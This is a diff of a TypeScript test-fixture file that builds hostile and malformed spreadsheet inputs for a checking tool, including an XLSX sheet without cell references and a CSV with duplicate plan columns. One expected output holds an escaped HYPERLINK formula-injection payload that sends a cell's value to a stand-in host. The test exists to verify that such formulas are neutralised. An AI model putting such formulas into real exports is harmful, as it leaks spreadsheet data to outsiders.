@@ -2,7 +2,6 @@
  * The hostile and odd files of issue 15, generated (no binary blobs in git). Each case names the
  * command line to run on it and what it must give: exit code, a piece of the message, a time bound.
  * Nothing here is tuned on the corpus, so it is not split into tune / held-out halves.
- * Not here yet (the streaming reader lands them): the shared-string bomb and the 1 000 000-row file.
  */
 import JSZip from "jszip";
 import ExcelJS from "exceljs";
@@ -62,16 +61,27 @@ async function zipOf(files: Record<string, string>): Promise<Buffer> {
   return zip.generateAsync({ type: "nodebuffer" });
 }
 
-async function xlsxWithoutR(): Promise<Buffer> {
+/**
+ * As LibreOffice and some generators write a sheet: cells without r, rows without r after a row
+ * that has one (title on row 1, row 2 empty, header on row 3, data rows 4 and 5 by order alone).
+ */
+export async function xlsxWithoutR(): Promise<Buffer> {
   const wb = new ExcelJS.Workbook();
   const ws = wb.addWorksheet("Chỉ tiêu");
-  for (const line of [HEADER, ...ROWS.slice(0, 2)])
-    ws.addRow(line.split(";").map((v, i) => (i === 0 || (i >= 3 && /^\d+$/.test(v)) ? Number(v) : v)));
+  ws.getCell("A1").value = "KẾT QUẢ THỰC HIỆN CHỈ TIÊU NĂM 2024";
+  [HEADER, ...ROWS.slice(0, 2)].forEach((line, i) =>
+    line.split(";").forEach((v, c) => (ws.getCell(3 + i, c + 1).value = /^\d+$/.test(v) ? Number(v) : v)),
+  );
   const zip = await JSZip.loadAsync(await wb.xlsx.writeBuffer());
   const path = "xl/worksheets/sheet1.xml";
   const xml = await zip.file(path)!.async("string");
-  // LibreOffice and Excel place cells without r by their order in the row.
-  zip.file(path, xml.replace(/(<c\b[^>]*?) r="[A-Z]+\d+"/g, "$1").replace(/(<row\b[^>]*?) r="\d+"/g, "$1"));
+  // Excel and LibreOffice place a cell without r after the cell before it, a row after the row before.
+  const stripped = xml
+    .replace(/(<c\b[^>]*?) r="[A-Z]+(?:[2-9]|\d\d+)"/g, "$1")
+    .replace(/(<row\b[^>]*?) r="(?:[4-9]|\d\d+)"/g, "$1");
+  if (!stripped.includes('<row r="3"') || /<c r="[A-Z]+[3-9]"/.test(stripped))
+    throw new Error("the sheet XML is not as this generator expects");
+  zip.file(path, stripped);
   return zip.generateAsync({ type: "nodebuffer" });
 }
 
@@ -227,14 +237,6 @@ export const CASES: HostileCase[] = [
     args: ["--format", "csv"],
     expect: { code: 0, stdout: [`"'=HYPERLINK(""http://x.example/?x=""&E2,""Bấm"")"`], maxMs: 3000 },
   },
-];
-
-/**
- * For the integrator, not run yet: ExcelJS 4.4.0 refuses a sheet whose cells have no r attribute
- * ("not a valid .xlsx" today), which LibreOffice and Excel open; the streaming reader ("ship") is
- * the place to place such cells by their order in the row. Move this case into CASES once it reads.
- */
-export const PENDING_READER_CASES: HostileCase[] = [
   {
     name: "cells without an r attribute are read in order",
     file: "no-r.xlsx",
@@ -242,5 +244,22 @@ export const PENDING_READER_CASES: HostileCase[] = [
     verb: "check",
     args: [],
     expect: { code: 0, stdout: ["Doanh nghiệp thành lập mới", "117,33%"], maxMs: 5000 },
+  },
+  {
+    name: "two Kế hoạch columns: the second is reported on its header cell, the first is read",
+    file: "two-plans.csv",
+    bytes: csv(
+      [
+        "STT;Chỉ tiêu;Đơn vị tính;Kế hoạch;Thực hiện;Kế hoạch;Cùng kỳ",
+        "1;Doanh nghiệp;doanh nghiệp;150;176;999;160",
+      ].join("\n"),
+    ),
+    verb: "check",
+    args: [],
+    expect: {
+      code: 0,
+      stdout: ["F1 (dòng 1)", 'ô D1 ("Kế hoạch")', "Chỉ cột D được đọc", "117,33%"],
+      maxMs: 3000,
+    },
   },
 ];
